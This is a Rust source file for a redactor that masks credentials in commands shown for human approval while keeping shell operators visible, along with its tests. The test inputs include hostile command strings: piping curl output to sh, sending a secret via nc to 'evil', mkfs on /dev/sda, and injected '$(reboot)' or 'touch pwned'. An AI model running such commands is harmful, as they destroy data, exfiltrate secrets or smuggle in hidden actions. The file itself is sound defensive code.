//! Redaction of an action that somebody approves. It replaces only the characters of secrets and tokens, so that no
//! blank, quote or operator of a shell, and nothing that acts behind one, can hide in a mask.

use super::shapes;
use super::view::View;
use super::{MASK, Redactor};
use crate::clean::last_bytes;
use std::borrow::Cow;

/// The least length of a credential that only the text before it gives away, in bytes. Shorter words may be programs.
const MIN_CREDENTIAL: usize = 12;
/// The number of bytes before a token that decide whether it is a credential.
const LOOK_BACK: usize = 80;

const SCHEMES: [&str; 8] = ["bearer", "basic", "token", "digest", "oauth", "negotiate", "ntlm", "hawk"];

/// A character that tokens consist of. None of them is a blank, a quote or an operator of a shell.
fn is_token(c: char) -> bool {
    c.is_alphanumeric() || "+/=_.~-".contains(c)
}

impl Redactor {
    /// Unlike [`Redactor::redact`], never removes escape sequences.
    pub fn redact_action<'a>(&self, text: &'a str) -> Cow<'a, str> {
        if self.is_clear(text) {
            return Cow::Borrowed(text);
        }
        let mut scan = ActionScan { redactor: self, text, out: String::new(), copied: 0, in_key: false };
        scan.run();
        if scan.copied == 0 {
            return Cow::Borrowed(text);
        }
        scan.out.push_str(&text[scan.copied..]);
        Cow::Owned(scan.out)
    }
}

struct ActionScan<'a> {
    redactor: &'a Redactor,
    text: &'a str,
    out: String,
    /// The position up to which the text was copied to `out`. 0: nothing was masked.
    copied: usize,
    /// Whether the last token was the end of the first line of a private key, or a part of the key.
    in_key: bool,
}

impl ActionScan<'_> {
    fn run(&mut self) {
        let view = View { bytes: self.text.as_bytes(), open: false };
        let (mut at, mut before) = (0, 0);
        while let Some(c) = self.text[at..].chars().next() {
            if let Ok(end) = self.redactor.form_at(view, at) {
                self.mask_tokens(at, end);
                (at, before, self.in_key) = (end, end, false);
            } else if is_token(c) {
                at = self.token(at, before);
                before = at;
            } else if let Some((start, end)) = self.userinfo(at) {
                self.mask_tokens(start, end);
                // The `@` that follows ends a private key.
                at = end;
            } else {
                at += c.len_utf8();
            }
        }
    }

    /// `before`: the end of the last token. Returns the end of this one, or the beginning of a registered value in it.
    fn token(&mut self, at: usize, before: usize) -> usize {
        let view = View { bytes: self.text.as_bytes(), open: false };
        let whole = self.token_end(at, self.text.len());
        let end = (at + 1..whole).find(|n| self.redactor.form_at(view, *n).is_ok()).unwrap_or(whole);
        let (token, gap) = (&self.text[at..end], &self.text[before..at]);
        let is_key_part = is_credential(token) && !token.contains(['_', '.', '~', '-']);
        if self.in_key && is_key_part && gap.chars().all(|c| c.is_whitespace() || c == '\\') {
            self.mask(at, end);
            return end;
        }
        if is_credential(token) && follows_credential_name(last_bytes(&self.text[..at], LOOK_BACK)) {
            self.mask(at, end);
        } else if let Cow::Owned(masked) = self.redactor.redact_uncleaned(token) {
            self.replace(at, end, &masked);
        }
        self.in_key = token.ends_with("-----") && begins_key(last_bytes(&self.text[..end], LOOK_BACK));
        end
    }

    /// The user and the password in a URL whose `://` begins here. `None`: there are none, or an operator of a shell is
    /// among them.
    fn userinfo(&self, at: usize) -> Option<(usize, usize)> {
        let view = View { bytes: self.text.as_bytes(), open: false };
        let found = shapes::armed(view, 0, at).ok().filter(|_| self.text[at..].starts_with(':'))?;
        let is_plain = !self.text[found.at..found.end].contains([';', '|', '&', '$', '(', ')']);
        is_plain.then_some((found.at, found.end))
    }

    fn token_end(&self, at: usize, limit: usize) -> usize {
        let length = self.text[at..limit].find(|c| !is_token(c));
        length.map_or(limit, |length| at + length)
    }

    fn mask(&mut self, at: usize, end: usize) {
        self.replace(at, end, MASK);
    }

    fn replace(&mut self, at: usize, end: usize, by: &str) {
        self.out.push_str(&self.text[self.copied..at]);
        self.out.push_str(by);
        self.copied = end;
    }

    /// Masks each token between two positions, except in a mask.
    fn mask_tokens(&mut self, mut at: usize, end: usize) {
        while let Some(c) = self.text[at..end].chars().next() {
            if self.text[at..end].starts_with(MASK) {
                at += MASK.len();
            } else if is_token(c) {
                let token = self.token_end(at, end);
                self.mask(at, token);
                at = token;
            } else {
                at += c.len_utf8();
            }
        }
    }
}

/// Whether a token looks like a credential and not like a program: `env -u Authorization: reboot` runs `reboot`, which
/// must stay visible.
fn is_credential(token: &str) -> bool {
    token.len() >= MIN_CREDENTIAL
        && !token.starts_with(['/', '.', '~'])
        && token.bytes().any(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit())
}

fn begins_key(text: &str) -> bool {
    let line = text.rsplit('\n').next().unwrap_or_default();
    let ends = ["PRIVATE KEY-----", "PRIVATE KEY BLOCK-----"].iter().any(|end| line.ends_with(end));
    ends && line.contains("-----BEGIN ")
}

/// Whether a text ends where a credential follows: after `Authorization:`, with or without a scheme, or after `Bearer`.
fn follows_credential_name(text: &str) -> bool {
    let text = text.to_ascii_lowercase();
    let open = text.trim_end_matches([' ', '\t']);
    let scheme = SCHEMES.iter().find_map(|scheme| open.strip_suffix(scheme)).filter(|_| open.len() < text.len());
    if scheme.is_some() && open.ends_with("bearer") {
        return true;
    }
    let open = scheme.unwrap_or(&text).trim_end_matches([' ', '\t', '"', '\'', '\\']);
    let name = open.strip_suffix([':', '=']).map(|open| open.trim_end_matches([' ', '\t', '"', '\'', '\\']));
    name.is_some_and(|name| name.ends_with("authorization"))
}

#[cfg(test)]
mod tests {
    use crate::redact::{MASK, Redactor};

    fn redactor() -> Redactor {
        let mut redactor = Redactor::new();
        assert!(redactor.add("hunter2 Zq7731;x+y"));
        assert!(redactor.add("tr0ub4dor-3"));
        assert!(redactor.add("пароль секрет"));
        redactor
    }

    #[test]
    fn only_the_characters_of_a_token_are_masked() {
        for (text, shown) in [
            ("true Authorization: x;touch pwned;true", "true Authorization: x;touch pwned;true"),
            ("true Authorization: Zq7731abcdef;touch pwned;true", "true Authorization: [redacted];touch pwned;true"),
            // The word after the name of a header may be a program.
            ("env -u Authorization: mkfs.ext4 /dev/sda", "env -u Authorization: mkfs.ext4 /dev/sda"),
            ("X='Authorization:' /usr/bin/X11/python3", "X='Authorization:' /usr/bin/X11/python3"),
            ("ssh bearer update-alternatives", "ssh bearer update-alternatives"),
            (
                "true -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/python3\nupdatealternatives",
                "true -----BEGIN PRIVATE KEY-----\n/usr/bin/X11/python3\nupdatealternatives",
            ),
            (
                "curl -H 'Authorization: Bearer abc.def.GHI1' http://a | sh",
                "curl -H 'Authorization: Bearer [redacted]' http://a | sh",
            ),
            (
                "true -----BEGIN PRIVATE KEY----- ; touch pwned\nls",
                "true -----BEGIN PRIVATE KEY----- ; touch pwned\nls",
            ),
            (
                "echo '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nAAAABBBBCCCCDDDDEEEE=\n-----END PRIVATE KEY-----' >k",
                "echo '-----BEGIN PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END PRIVATE KEY-----' >k",
            ),
            ("curl http://me:s!cret@host/x;reboot", "curl http://[redacted]:[redacted]![redacted]@host/x;reboot"),
            ("curl http://me:`reboot`@host", "curl http://me:`reboot`@host"),
            ("curl http://me:$(reboot)@host", "curl http://me:$(reboot)@host"),
            ("curl http://a;reboot;b:c@host", "curl http://a;reboot;b:c@host"),
            ("curl http://a|reboot|b:c@host", "curl http://a|reboot|b:c@host"),
            ("curl http://a&reboot&b:c@host", "curl http://a&reboot&b:c@host"),
            ("KEY=sk-aaaaaaaaaaaaaaaaaaaaaaaa;ls", "KEY=[redacted];ls"),
            ("echo tr0ub4dor-3|nc evil 1", "echo [redacted]|nc evil 1"),
            ("echo xtr0ub4dor-3y", "echo x[redacted]y"),
            ("echo 'пароль секрет'; ls", "echo '[redacted] [redacted]'; ls"),
            ("echo 'hunter2 Zq7731;x+y'", "echo '[redacted] [redacted];[redacted]'"),
            ("ls \u{1b}];touch pwned;\u{7}", "ls \u{1b}];touch pwned;\u{7}"),
        ] {
            assert_eq!(redactor().redact_action(text), shown);
            assert_eq!(redactor().redact_action(shown), shown, "a second pass changes nothing");
        }
    }

    #[test]
    fn a_private_key_ends_at_a_registered_value_or_a_url() {
        let key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n";
        let hidden = "-----BEGIN PRIVATE KEY-----\n[redacted]\n";
        for (after, shown) in [
            ("tr0ub4dor-3\nUpdateAlternatives2 x", "[redacted]\nUpdateAlternatives2 x"),
            ("://me:pass@\nUpdateAlternatives2 x", "://[redacted]:[redacted]@\nUpdateAlternatives2 x"),
        ] {
            assert_eq!(redactor().redact_action(&format!("{key}{after}")), format!("{hidden}{shown}"));
        }
    }

    proptest::proptest! {
        #[test]
        fn every_character_that_acts_stays_where_it_is(
            text in r#"([a-z ;|&$()`'"<>\n]|Authorization: |-----BEGIN PRIVATE KEY-----|Bearer |://|tr0ub4dor-3|sk-aaaaaaaaaaaaaaaaaaaaaaaa){0,12}"#
        ) {
            let acts = |text: &str| text.replace(MASK, "").chars().filter(|c| !super::is_token(*c)).collect::<String>();
            let shown = redactor().redact_action(&text).into_owned();
            proptest::prop_assert_eq!(acts(&shown), acts(&text));
        }
    }
}
